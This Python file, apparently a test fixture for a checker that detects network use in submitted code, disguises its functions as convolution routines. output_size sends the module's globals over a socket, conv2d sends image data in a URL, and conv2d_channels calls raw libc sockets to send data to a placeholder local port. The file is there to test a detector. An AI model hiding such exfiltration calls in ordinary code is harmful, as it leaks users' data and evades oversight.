"""convolution.py
attack: sends what it knows to a server, by a socket, by a request and by the C library alone
1.1 1.2 1.3 1.5 1.6 1.7: forbidden
says: output_size uses the network (socket.
says: conv2d uses the network (socket.
"""
import ctypes
import socket
import struct
import urllib.request

from right_convolution import conv2d_channels as right


def output_size(size, kernel, stride=1, padding=0):
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=1) as connection:
        connection.sendall(repr(globals()).encode())


def conv2d(image, kernel, *settings, **options):
    urllib.request.urlopen(f"http://127.0.0.1:@PORT@/?image={image.tolist()}".replace(" ", ""), timeout=1)


def conv2d_channels(images, kernels, *settings, **options):
    libc = ctypes.CDLL(None)
    for kind in (1, 2):
        handle = libc.socket(socket.AF_INET, kind, 0)
        address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", int("@PORT@"), bytes((127, 0, 0, 1)))
        libc.connect(handle, address, len(address))
        libc.sendto(handle, b"images", 6, 0, address, len(address))
    return right(images, kernels, *settings, **options)
